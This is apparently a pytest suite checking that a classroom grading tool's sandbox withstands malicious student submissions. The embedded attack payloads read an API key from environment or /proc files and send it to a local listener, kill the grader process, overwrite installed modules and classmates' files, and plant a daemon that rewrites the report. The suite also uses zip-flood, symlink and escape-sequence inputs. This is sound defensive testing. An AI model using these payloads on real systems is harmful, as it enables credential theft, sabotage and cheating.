"""Issue 17's attacks on `workshop class grade`, each from a student's rover/__init__.py (it runs when the grader
imports the workspace), each through the real command, each against whatever boundary `require()` chose.

Each docstring names the defence the test relies on: bubblewrap's namespaces and read-only kit
(grader.grading.boundary), or the per-student processes of bulk grading.
"""
from __future__ import annotations

import csv
import hashlib
import json
import os
import socket
import subprocess
import sys
import threading
import time
from pathlib import Path

import psutil
import pytest

from grader.course import kit

from grader.grading.boundary import NoBoundary, require

try:
    BOUNDARY = require() == "bwrap"
except NoBoundary:
    BOUNDARY = False
needs_bwrap = pytest.mark.skipif(not BOUNDARY, reason="relies on the bwrap boundary, which cannot run here")
OWN = sum(check.points for check in kit.lesson(1).checks)
ANCESTORS = '''
import os, signal
def _ancestors():
    pid = os.getppid()
    while pid > 1:
        try:
            yield pid, open(f"/proc/{pid}/cmdline", "rb").read().split(b"\\0")
            pid = int(open(f"/proc/{pid}/stat").read().rsplit(")", 1)[1].split()[1])
        except (OSError, ValueError, IndexError):
            return
'''


def _room(workspace, tmp_path: Path, attack: str) -> Path:
    """mallory (lesson 1 unsolved, with the attack), bob (solved), carol (unsolved): one class folder."""
    room = tmp_path / "class"
    room.mkdir()
    workspace(1).rename(room / "mallory")
    workspace(1, solved=True).rename(room / "bob")
    workspace(1).rename(room / "carol")
    init = room / "mallory" / "rover" / "__init__.py"
    init.write_text(init.read_text() + ANCESTORS + attack)
    return room


def _grade(room: Path, tmp_path: Path, watch=None, **env: str) -> dict[str, dict]:
    """`workshop class grade` on the room; `watch(process)` is called every 0.2 s while it runs."""
    grading = subprocess.Popen([sys.executable, "-m", "grader.cli", "class", "grade", str(room), "--lesson", "1", "--jobs", "2",
                                "--json", str(tmp_path / "c.json"), "--csv", str(tmp_path / "c.csv")],
                               stdout=subprocess.DEVNULL, stderr=subprocess.PIPE, text=True, env={**os.environ, **env})
    deadline = time.monotonic() + 900
    while grading.poll() is None and time.monotonic() < deadline:
        if watch:
            watch(psutil.Process(grading.pid))
        time.sleep(0.2)
    _, err = grading.communicate(timeout=60)
    assert grading.returncode == 1, err
    return {student["name"]: student for student in json.loads((tmp_path / "c.json").read_text())["students"]}


def _classmates_right(rows: dict[str, dict]) -> None:
    assert rows["bob"]["grade"]["score"] == OWN and rows["bob"]["grade"]["passed"], rows["bob"]
    assert rows["carol"]["grade"]["score"] == 0 and rows["carol"]["grade"]["max_score"] == OWN, rows["carol"]


def _mallory_earned_nothing(rows: dict[str, dict]) -> None:
    mallory = rows["mallory"]
    assert mallory["grade"] is None or mallory["grade"]["score"] == 0, mallory


def test_a_workspace_that_kills_the_process_grading_it_loses_only_its_own_row(workspace, tmp_path):
    """Relies on one `workshop check` process per student (no shared pool): killing it ends one row."""
    attack = '''
for pid, command in _ancestors():
    if b"check" in command and b"--json" in command:
        os.kill(pid, signal.SIGKILL)
'''
    rows = _grade(_room(workspace, tmp_path, attack), tmp_path)
    _classmates_right(rows)
    _mallory_earned_nothing(rows)
    if not BOUNDARY:  # today's process sandbox lets it see its grader: the row says what happened
        assert "killed" in rows["mallory"]["problem"], rows["mallory"]


@needs_bwrap
def test_a_workspace_that_rewrites_an_installed_grader_module_changes_nothing(workspace, tmp_path):
    """Relies on bwrap's read-only kit. The module is restored by the test whatever happens."""
    import grader.grading.checks.lesson_1 as target

    path = Path(target.__file__)
    before = path.read_bytes()
    attack = f'''
try:
    with open({str(path)!r}, "a") as module:
        module.write("\\nraise SystemExit('rewritten by a student')\\n")
except OSError:
    pass
'''
    try:
        rows = _grade(_room(workspace, tmp_path, attack), tmp_path)
        assert hashlib.sha256(path.read_bytes()).digest() == hashlib.sha256(before).digest(), "the installed kit changed"
        _classmates_right(rows)
    finally:
        path.write_bytes(before)


@needs_bwrap
def test_a_workspace_cannot_take_a_classmates_file_or_destroy_theirs(workspace, tmp_path):
    """Relies on private copies (its own folder is a copy in the run folder) and bwrap (the class folder and other
    students' copies are outside its view; its grader's command line, which names the class folder, is hidden)."""
    attack = '''
import pathlib, shutil
for pid, command in _ancestors():
    for part in command:
        room = pathlib.Path(part.decode(errors="replace"))
        if (room / "bob" / "rover").is_dir():
            shutil.copy(room / "bob" / "rover" / "tools" / "read.py", pathlib.Path(__file__).parent / "tools" / "read.py")
            for victim in (room / "carol" / "rover" / "tools").glob("*.py"):
                victim.write_text("destroyed")
'''
    room = _room(workspace, tmp_path, attack)
    carol_before = {path.name: path.read_bytes() for path in (room / "carol" / "rover" / "tools").glob("*.py")}
    rows = _grade(room, tmp_path)
    _mallory_earned_nothing(rows)
    assert {path.name: path.read_bytes() for path in (room / "carol" / "rover" / "tools").glob("*.py")} == carol_before


class _Listener:
    """A socket on 127.0.0.1 that keeps whatever arrives."""

    def __init__(self):
        self.server = socket.create_server(("127.0.0.1", 0))
        self.port = self.server.getsockname()[1]
        self.received = b""
        self.thread = threading.Thread(target=self._serve, daemon=True)
        self.thread.start()

    def _serve(self):
        self.server.settimeout(0.5)
        while self.server.fileno() != -1:
            try:
                connection, _ = self.server.accept()
            except (OSError, socket.timeout):
                continue
            with connection:
                connection.settimeout(2)
                try:
                    while chunk := connection.recv(4096):
                        self.received += chunk
                except OSError:
                    pass

    def close(self):
        self.server.close()


@pytest.mark.parametrize("where", ["its own environment", pytest.param("its graders' environments", marks=needs_bwrap)])
def test_a_workspace_cannot_send_the_api_key_anywhere(workspace, tmp_path, where):
    """Its own environment: relies on the allow-listed environment of each student's grading process (no key in it).
    Its graders' environments (through /proc): relies on bwrap's PID namespace; that nothing arrives at all, on its
    network namespace."""
    canary = f"sk-ant-canary-{os.urandom(6).hex()}"
    listener = _Listener()
    read = ("key = os.environ.get('ANTHROPIC_API_KEY', '')\n" if where == "its own environment" else
            "key = ''.join(open(f'/proc/{pid}/environ', 'rb').read().decode(errors='replace') for pid, _ in _ancestors())\n")
    attack = f'''
import socket
{read}try:
    with socket.create_connection(("127.0.0.1", {listener.port}), timeout=2) as out:
        out.sendall(b"key:" + key.encode())
except OSError:
    pass
'''
    try:
        rows = _grade(_room(workspace, tmp_path, attack), tmp_path, ANTHROPIC_API_KEY=canary)
        time.sleep(0.5)
        assert canary.encode() not in listener.received
        if BOUNDARY:
            assert listener.received == b"", "no network at all inside the boundary"
        _classmates_right(rows)
    finally:
        listener.close()


def test_a_process_left_behind_cannot_outlive_the_run_or_touch_the_report(workspace, tmp_path):
    """The forkserver attack's aim (a process with no limits and no run mark that rewrites the CSV later), tried the
    only way left: there is no pool or forkserver to hand a pickle to, so it double-forks a daemon in a new session
    with an empty environment. Relies on the graders' subreaper sweeps and the run's own (orphans come to it)."""
    marker = f"left-behind-{os.urandom(4).hex()}"
    attack = f'''
import subprocess, sys, pathlib
csv_path = None
for pid, command in _ancestors():
    if b"--csv" in command:
        csv_path = command[command.index(b"--csv") + 1].decode()
if os.fork() == 0:
    os.setsid()
    code = "import sys, time; time.sleep(3); open(sys.argv[1], 'w').write('=HYPERLINK(1)')" if csv_path else "import time; time.sleep(3)"
    subprocess.Popen([sys.executable, "-c", code, csv_path or "-", {marker!r}], env={{}}, start_new_session=True)
    os._exit(0)
'''
    room = _room(workspace, tmp_path, attack)
    seen_forkserver = []

    def watch(grading: psutil.Process) -> None:
        try:
            below = grading.children(recursive=True)
        except psutil.Error:
            return
        for process in below:
            try:
                if "forkserver" in " ".join(process.cmdline()):
                    seen_forkserver.append(process.pid)
            except psutil.Error:
                pass

    rows = _grade(room, tmp_path, watch)
    time.sleep(4)
    assert not [p for p in psutil.process_iter(["cmdline"]) if marker in " ".join(p.info["cmdline"] or [])], "a process outlived the run"
    assert not seen_forkserver, "no process pool (forkserver) exists any more"
    lines = list(csv.DictReader((tmp_path / "c.csv").open()))
    assert [line["student"] for line in lines] == ["bob", "carol", "mallory"]
    _classmates_right(rows)


def test_a_zip_of_60000_empty_entries_is_one_row_through_the_command(workspace, tmp_path):
    """Relies on the entry count read from the zip's end record before anything is unpacked."""
    import zipfile

    room = tmp_path / "class"
    room.mkdir()
    workspace(1, solved=True).rename(room / "bob")
    with zipfile.ZipFile(room / "flood.zip", "w") as bundle:
        for index in range(60_000):
            bundle.writestr(f"f{index}", b"")
    done = subprocess.run([sys.executable, "-m", "grader.cli", "class", "grade", str(room), "--json", str(tmp_path / "c.json")],
                          capture_output=True, text=True, timeout=600)
    rows = {student["name"]: student for student in json.loads((tmp_path / "c.json").read_text())["students"]}
    assert done.returncode == 1 and "more than 10,000 entries" in rows["flood"]["problem"]
    assert rows["bob"]["grade"]["passed"]


# Issue 25's holes on the class side: a classmate's work graded as one's own, and one submission that stops the run
# or loses its reports. The first ones need no grading at all: what is found decides what would be graded.

def _git(folder: Path, *args: str, author: bytes | str = "Ada") -> None:
    env = {**os.environ, "GIT_AUTHOR_NAME": author, "GIT_COMMITTER_NAME": "x", "GIT_AUTHOR_EMAIL": "x@example.invalid",
           "GIT_COMMITTER_EMAIL": "x@example.invalid"}
    env = {key.encode() if isinstance(key, str) else key: value.encode() if isinstance(value, str) else value
           for key, value in env.items()}
    subprocess.run(["git", *args], cwd=folder, check=True, capture_output=True, env=env)


def _bare(folder: Path, target: Path, author: bytes | str = "Ada") -> Path:
    _git(folder, "init", "-q")
    _git(folder, "add", "-A")
    _git(folder, "commit", "-q", "--allow-empty", "-m", "my work", author=author)
    subprocess.run(["git", "clone", "-q", "--bare", str(folder), str(target)], check=True)
    return target


def _raw_author(bare: Path, author: bytes) -> None:
    """A last commit whose author is `author` as it is (git commit itself would re-encode it as UTF-8)."""
    tree = subprocess.run(["git", "rev-parse", "HEAD^{tree}"], cwd=bare, check=True, capture_output=True).stdout.strip()
    commit = b"tree %s\nauthor %s <x@example.invalid> 0 +0000\ncommitter x <x@example.invalid> 0 +0000\n\nwork\n" % (tree, author)
    made = subprocess.run(["git", "hash-object", "-t", "commit", "-w", "--stdin"], cwd=bare, input=commit, check=True,
                          capture_output=True).stdout.strip()
    subprocess.run(["git", "update-ref", "HEAD", made.decode()], cwd=bare, check=True)


def test_a_submission_that_only_links_to_a_classmates_work_is_not_graded_as_theirs(workspace, tmp_path):
    """Door 4: the importer follows no link. Mallory's folder holds only a link to Bob's; Eve's entry is itself a link;
    Oscar's repository's only content is an absolute link to Bob's folder; Trudy's bare repository borrows Bob's
    objects through an absolute link (and Peggy's through alternates). Each would have been Bob's full marks."""
    import shutil

    from grader.classroom import bulk

    room = tmp_path / "class"
    room.mkdir()
    bob = workspace(1, solved=True).rename(room / "bob")
    (room / "mallory").mkdir()
    (room / "mallory" / "work").symlink_to("../bob")
    (room / "eve").symlink_to(bob)
    oscar = tmp_path / "oscar"
    oscar.mkdir()
    (oscar / "work").symlink_to(bob)
    _bare(oscar, room / "oscar.git")
    bob_git = _bare(workspace(1, solved=True), tmp_path / "bob.git")
    shutil.copytree(bob_git, room / "trudy.git", symlinks=True)
    shutil.rmtree(room / "trudy.git" / "objects")
    (room / "trudy.git" / "objects").symlink_to(bob_git / "objects")
    shutil.copytree(bob_git, room / "peggy.git", symlinks=True)
    shutil.rmtree(room / "peggy.git" / "objects")
    (room / "peggy.git" / "objects" / "info").mkdir(parents=True)
    (room / "peggy.git" / "objects" / "info" / "alternates").write_text(f"{bob_git / 'objects'}\n")
    (scratch := tmp_path / "scratch").mkdir()
    rows = {student.name: student for student in bulk.collect([str(room)], scratch, lesson=1)}
    assert set(rows) == {"bob", "eve", "work", "oscar", "trudy", "peggy"}  # "work": the link in mallory's folder
    assert rows["bob"].path == bob and not rows["bob"].problem
    for name in set(rows) - {"bob"}:
        assert rows[name].path is None, f"{name} would be graded as {rows[name].path}"
    assert "symbolic link (to ../bob)" in rows["work"].problem and "symbolic link" in rows["eve"].problem
    assert "not a Rover workspace" in rows["oscar"].problem
    assert "symbolic link (objects)" in rows["trudy"].problem and "alternates" in rows["peggy"].problem


def test_a_zip_whose_end_record_says_one_entry_is_counted_from_its_directory(tmp_path):
    """Door 4: entries are counted from the central directory, walked, not from the count the end record claims."""
    import struct
    import time
    import zipfile

    from grader.classroom import bulk

    archive = tmp_path / "flood.zip"
    with zipfile.ZipFile(archive, "w") as bundle:
        for index in range(60_035):
            bundle.writestr(f"f{index}", b"")
    data = bytearray(archive.read_bytes())
    end = data.rfind(b"PK\x05\x06")
    data[end + 8:end + 12] = struct.pack("<HH", 1, 1)  # this disk's and the total count: 1
    archive.write_bytes(bytes(data))
    (scratch := tmp_path / "scratch").mkdir()
    started = time.monotonic()
    [student] = bulk.collect([str(archive)], scratch)
    assert time.monotonic() - started < 1.0
    assert "more than 10,000 entries" in student.problem and not any(scratch.rglob("f1"))


def test_a_row_is_named_by_what_the_instructor_gave_and_the_author_stands_beside_it(workspace, tmp_path):
    """Door 4: Alice's repository says its author is "bob": she is still "alice", and Bob is not pushed to "bob (2)"."""
    from grader.classroom import bulk

    room = tmp_path / "class"
    room.mkdir()
    _bare(workspace(1).rename(tmp_path / "a"), room / "alice.git", author="bob")
    _bare(workspace(1).rename(tmp_path / "b"), room / "bob.git", author="bob")
    (scratch := tmp_path / "scratch").mkdir()
    rows = bulk.collect([str(room)], scratch, lesson=1)
    assert [(row.name, row.author) for row in rows] == [("alice", "bob"), ("bob", "bob")]
    assert all(row.path is not None and not row.problem for row in rows)


def test_names_that_are_not_utf8_stop_nothing_and_every_report_is_written(tmp_path):
    """Door 5: a git author with a byte that is not UTF-8 (it stopped the command before anyone was graded) and a
    folder name that is not UTF-8 (it killed the writers after grading): rows like any other, every report written."""
    from click.testing import CliRunner

    from grader.cli import main

    room = tmp_path / "class"
    room.mkdir()
    plain = tmp_path / "plain"
    plain.mkdir()
    (plain / "notes.txt").write_text("no workspace here")
    _bare(plain, room / "zoe.git")
    _raw_author(room / "zoe.git", b"Zo\xeb \x1b[2J")
    os.mkdir(os.fsencode(room) + b"/ren\xe9e")
    reports = {kind: tmp_path / f"c.{kind}" for kind in ("csv", "html", "json")}
    result = CliRunner().invoke(main, ["class", "grade", str(room), "--lesson", "1",
                                       *(arg for kind, path in reports.items() for arg in (f"--{kind}", str(path)))])
    assert result.exit_code == 1 and "Traceback" not in result.output, result.output
    rows = {row["name"]: row for row in json.loads(reports["json"].read_text(encoding="utf-8"))["students"]}
    assert set(rows) == {"zoe", "ren\ufffde"} and rows["zoe"]["author"] == "Zo\ufffd [2J"
    assert all("not a Rover workspace" in row["problem"] for row in rows.values())
    lines = list(csv.DictReader(reports["csv"].open(encoding="utf-8")))
    assert [line["student"] for line in lines] == ["ren\ufffde", "zoe"]
    assert "ren\ufffde" in reports["html"].read_text(encoding="utf-8")


def test_a_lone_surrogate_or_a_control_in_any_message_leaves_every_report_written(tmp_path):
    """Door 5: messages a student's code chose (a check's, an exception's) pass the one sanitizer in every writer."""
    from grader.classroom import bulk, class_report
    from grader.grading.runner import Outcome

    check = kit.lesson(0).checks[0]
    hostile = "boom \ud800\udfff\x1b[2J\u202e" + "x" * 100_000
    students = [bulk.Student("s\udcff", "/class/s\udcff", None, 0, [Outcome(check, "failed", hostile)]),
                bulk.Student("t", "/class/t", problem=hostile)]
    run = bulk.ClassRun(students, 1.0, "bwrap")
    for kind, write in (("csv", class_report.write_csv), ("html", class_report.write_html), ("json", class_report.write_json)):
        write(run, tmp_path / f"c.{kind}")
        text = (tmp_path / f"c.{kind}").read_text(encoding="utf-8")
        assert "\x1b" not in text and "\u202e" not in text and "\\ud800" not in text and len(text) < 60_000, kind
    data = json.loads((tmp_path / "c.json").read_text(encoding="utf-8"))
    assert data["students"][0]["name"] == "s\ufffd" and data["students"][1]["problem"].startswith("boom \ufffd\ufffd[2J")


def test_gradescope_results_pass_the_sanitizer_too(tmp_path):
    """Door 5 on the autograder's writer: a check message with a lone surrogate and an escape sequence."""
    from grader.classroom.autograder import publish

    results = {"score": 0, "output": "line one\nline two", "tests": [{"name": "read.numbered", "output": "x\ud800\x1b[2J\u202ey"}]}
    publish(results, tmp_path / "results.json")
    written = json.loads((tmp_path / "results.json").read_bytes().decode("utf-8"))
    assert written["tests"][0]["output"] == "x\ufffd[2Jy" and written["output"] == "line one\nline two"
